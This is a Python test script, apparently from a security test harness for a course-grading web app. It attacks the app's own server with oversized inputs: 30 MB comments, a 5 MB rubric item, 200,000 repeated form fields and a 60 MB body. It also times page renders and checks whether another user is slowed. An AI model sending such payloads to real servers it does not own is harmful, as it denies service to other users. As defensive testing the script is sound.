"""Denial of service by a hostile TA (or anyone holding a session) with huge inputs: a 30 MB
comment, a 5 MB rubric item text (copied into every answer page and every re-scored audit
entry), 200 000 repeated 'item' fields, a 60 MB body, and the rendering time of the hostile
class's answers (3 MB answer, 5 000 nested braces, 20 000 nested brackets). A win: the server
stores megabytes per field, takes > 5 s for a page, or stops answering another TA."""
import time, threading
from _lib import *

s = login("dos-ta")
watch = login("dos-watch")
wp = written_part(s)
ids = answers(s, wp)
found = []


def timed(f):
    t0 = time.time()
    try:
        r = f()
        return r, time.time() - t0
    except Exception as e:
        return e, time.time() - t0


# rendering time of every answer
for a in ids:
    r, dt = timed(lambda: s.get(BASE + "/answer/%d" % a, timeout=60))
    if dt > 5:
        found.append("answer %d renders in %.1f s" % (a, dt))
aid = ids[4]
# 30 MB comment
st = answer_state(s, aid)
r, dt = timed(lambda: post(s, "/answer/%d" % aid, {"csrf": st["csrf"], "version": st["version"], "points": "1",
                                                    "comment": "C" * 30_000_000}, timeout=120))
page = s.get(BASE + "/answer/%d" % aid).text
if len(page) > 5_000_000:
    found.append("30 MB comment stored and served (answer page %d bytes, POST %.1f s)" % (len(page), dt))
# 5 MB item text
t = s.get(BASE + "/part/%d" % wp).text
r, dt = timed(lambda: post(s, "/part/%d/items" % wp, {"csrf": csrf(t), "points": "0", "text": "I" * 5_000_000}, timeout=120))
t = s.get(BASE + "/part/%d" % wp).text
if len(t) > 4_000_000:
    found.append("5 MB rubric item stored (part page now %d bytes)" % len(t))
# 200 000 item fields
st = answer_state(s, ids[5])
body = [("csrf", st["csrf"]), ("version", st["version"]), ("comment", "x")] + [("item", "1")] * 200_000
r, dt = timed(lambda: s.post(BASE + "/answer/%d" % ids[5], data=body, headers={"Origin": BASE}, allow_redirects=False, timeout=120))
if dt > 5:
    found.append("200 000 item fields took %.1f s" % dt)
# 60 MB body while another TA works
res = {}


def other():
    time.sleep(0.5)
    res["r"], res["dt"] = timed(lambda: watch.get(BASE + "/", timeout=60))


th = threading.Thread(target=other)
th.start()
st = answer_state(s, ids[6])
r, dt = timed(lambda: post(s, "/answer/%d" % ids[6], {"csrf": st["csrf"], "version": st["version"],
                                                      "comment": "D" * 60_000_000}, timeout=120))
th.join()
if isinstance(res.get("r"), Exception) or res.get("dt", 0) > 5:
    found.append("another TA's page took %.1f s during a 60 MB post (%s)" % (res.get("dt", 0), res.get("r")))
code = getattr(r, "status_code", r)
if getattr(r, "status_code", 500) < 400:
    found.append("60 MB body accepted (HTTP %s in %.1f s)" % (code, dt))
if found:
    worked("; ".join(found))
failed("huge inputs refused or harmless; pages render quickly")
